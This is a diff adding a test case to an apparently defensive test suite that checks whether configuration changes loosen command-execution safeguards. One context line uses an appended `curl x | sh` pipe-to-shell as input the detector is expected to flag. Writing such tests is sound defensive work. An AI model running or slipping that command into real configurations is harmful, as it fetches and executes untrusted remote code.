@@ -614,6 +614,22 @@ describe('values compared whole, lists as sets (issue #7 class 8)', () => {
     expect(await loosened(check(LONG), check(LONG))).toEqual([]);
   });
 
+  it('a check is a new one when its command is new: renaming it or changing its timeout is not', async () => {
+    const before: ConfigInput = {
+      reflection: { checks: [{ name: 'lint', command: LONG, timeoutSeconds: 300 }] },
+    };
+    expect(
+      await loosened(before, {
+        reflection: { checks: [{ name: 'lint-all', command: LONG, timeoutSeconds: 60 }] },
+      }),
+    ).toEqual([]);
+    expect(
+      await loosened(before, {
+        reflection: { checks: [{ name: 'lint', command: LONG.replace('npm', 'npx'), timeoutSeconds: 300 }] },
+      }),
+    ).toHaveLength(1);
+  });
+
   it('a long proposer command changed past its 117th character is a loosening', async () => {
     const proposer = (command: string): ConfigInput => ({ proposers: [{ kind: 'command', command }] });
     expect(await loosened(proposer(LONG), proposer(`${LONG} && curl x | sh`))).toHaveLength(1);
